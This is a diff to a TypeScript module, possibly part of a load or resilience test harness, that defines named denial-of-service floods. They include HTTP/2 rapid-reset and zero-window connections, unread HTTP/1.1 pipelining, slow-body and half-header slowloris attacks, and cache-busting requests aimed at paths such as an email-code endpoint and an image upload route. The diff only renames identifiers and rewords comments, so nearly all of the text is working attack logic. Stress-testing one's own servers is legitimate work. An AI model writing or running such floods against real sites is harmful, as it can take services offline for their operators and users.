@@ -15,7 +15,7 @@ const RENEW_MS = 2000;
 /** Streams that the site allows on one connection. */
 const STREAMS = 128;
 
-/** Ten connections of HTTP/2 that cancel each request right after it was sent. */
+/** Opens ten HTTP/2 connections that cancel each request right after it was sent. */
 const reset = (target: FloodTarget): Promise<number> =>
   keepConnections(target, 'h2', 10, (socket) => {
     socket.resume();
@@ -32,8 +32,8 @@ const reset = (target: FloodTarget): Promise<number> =>
     send();
   });
 
-/** Connections of HTTP/2 that request a cached page on every stream, and accept no byte of the answers. */
-const window0 = (target: FloodTarget): Promise<number> =>
+/** Opens HTTP/2 connections that request a cached page on every stream and accept no byte of the responses. */
+const zeroWindow = (target: FloodTarget): Promise<number> =>
   keepConnections(target, 'h2', 200, (socket) => {
     socket.resume();
     socket.write(Buffer.concat([clientPreface(0), ...streamIds(STREAMS).map((id) => getFrame(id, CACHED_PAGE))]));
@@ -41,7 +41,7 @@ const window0 = (target: FloodTarget): Promise<number> =>
     setTimeout(() => socket.destroy(), RENEW_MS);
   });
 
-/** Connections of HTTP/1.1 that send many requests for a cached page at once, and read no answer. */
+/** Opens HTTP/1.1 connections that send many requests for a cached page at once and read no response. */
 const pipeline = (target: FloodTarget): Promise<number> =>
   keepConnections(target, 'http/1.1', 200, (socket) => {
     socket.pause();
@@ -49,7 +49,7 @@ const pipeline = (target: FloodTarget): Promise<number> =>
     setTimeout(() => socket.destroy(), RENEW_MS);
   });
 
-/** Connections that send the body of a request, a byte a second. */
+/** Opens connections that send the body of a request, one byte a second. */
 const slowBodies =
   (line: string, count: number) =>
   (target: FloodTarget): Promise<number> =>
@@ -59,7 +59,7 @@ const slowBodies =
       repeat(socket, 1000, () => socket.write('x'));
     });
 
-/** Connections that send the beginning of a request, and nothing else. */
+/** Opens connections that send the beginning of a request and nothing else. */
 const idle =
   (beginning: string) =>
   (target: FloodTarget): Promise<number> =>
@@ -68,7 +68,7 @@ const idle =
       socket.write(beginning);
     });
 
-/** Connections that each ask for one page that no visitor asked for before. */
+/** Opens connections that each request one page that no visitor requested before. */
 const newPages =
   (path: string) =>
   (target: FloodTarget): Promise<number> => {
@@ -81,25 +81,25 @@ const newPages =
 
 interface Flood {
   readonly start: (target: FloodTarget) => Promise<number>;
-  readonly tls: boolean;
-  /** Whether it comes from an address that the site counts as one client. */
+  readonly usesTls: boolean;
+  /** True if it comes from an address that the site counts as one client. */
   readonly isOneClient?: boolean;
 }
 
-const trick = (start: Flood['start'], tls: boolean): Flood => ({ start, tls });
-const ofOneClient = (start: Flood['start']): Flood => ({ start, tls: false, isOneClient: true });
+const createFlood = (start: Flood['start'], usesTls: boolean): Flood => ({ start, usesTls });
+const createOneClientFlood = (start: Flood['start']): Flood => ({ start, usesTls: false, isOneClient: true });
 
 export const floods = {
-  reset: trick(reset, true),
-  window0: trick(window0, true),
-  pipeline: trick(pipeline, false),
-  slowBodies: trick(slowBodies('POST /tech/public/sendEmailCode', 1000), false),
-  slowUploads: ofOneClient(slowBodies('PUT /uploads/images/a.png', 200)),
-  idleConnections: ofOneClient(idle('')),
-  halfHeads: ofOneClient(idle('GET /home HTTP/1.1\r\nHost: localhost\r\n')),
-  unreadParameters: ofOneClient(newPages('/home?x=')),
-  readParameters: ofOneClient(newPages('/cars?keyword=')),
-  unknownAddresses: ofOneClient(newPages('/nowhere/')),
+  reset: createFlood(reset, true),
+  zeroWindow: createFlood(zeroWindow, true),
+  pipeline: createFlood(pipeline, false),
+  slowBodies: createFlood(slowBodies('POST /tech/public/sendEmailCode', 1000), false),
+  slowUploads: createOneClientFlood(slowBodies('PUT /uploads/images/a.png', 200)),
+  idleConnections: createOneClientFlood(idle('')),
+  halfHeads: createOneClientFlood(idle('GET /home HTTP/1.1\r\nHost: localhost\r\n')),
+  unreadParameters: createOneClientFlood(newPages('/home?x=')),
+  readParameters: createOneClientFlood(newPages('/cars?keyword=')),
+  unknownAddresses: createOneClientFlood(newPages('/nowhere/')),
 };
 export type FloodName = keyof typeof floods;
 export const isFloodName = (name: string): name is FloodName => name in floods;
